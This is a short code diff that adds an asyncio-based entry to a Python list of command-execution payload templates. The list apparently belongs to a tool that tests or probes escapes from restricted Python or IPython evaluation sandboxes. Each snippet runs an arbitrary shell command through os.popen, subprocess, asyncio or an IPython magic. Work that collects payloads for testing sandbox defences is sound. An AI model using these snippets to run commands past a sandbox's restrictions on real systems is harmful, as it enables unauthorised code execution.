@@ -31,6 +31,10 @@ PAYLOADS = [
      "import os\npwned = os.popen(@C@).read()"),
     ("subprocess_check_output", "stdlib_io_gadgets", "run_command",
      "import subprocess\npwned = subprocess.check_output(@C@, shell=True).decode()"),
+    ("asyncio_loop_subprocess", "stdlib_io_gadgets", "run_command",
+     "import asyncio\nloop = asyncio.gather().get_loop()\n"
+     "t, _ = await loop.subprocess_shell(asyncio.SubprocessProtocol, @C@)\n"
+     "while t.get_returncode() is None:\n    await asyncio.sleep(0.02)"),
     ("timeit_magic", "ipython_shell_magics", "run_command",
      "%timeit -n1 -r1 __import__('os').system(@C@)"),
 ]
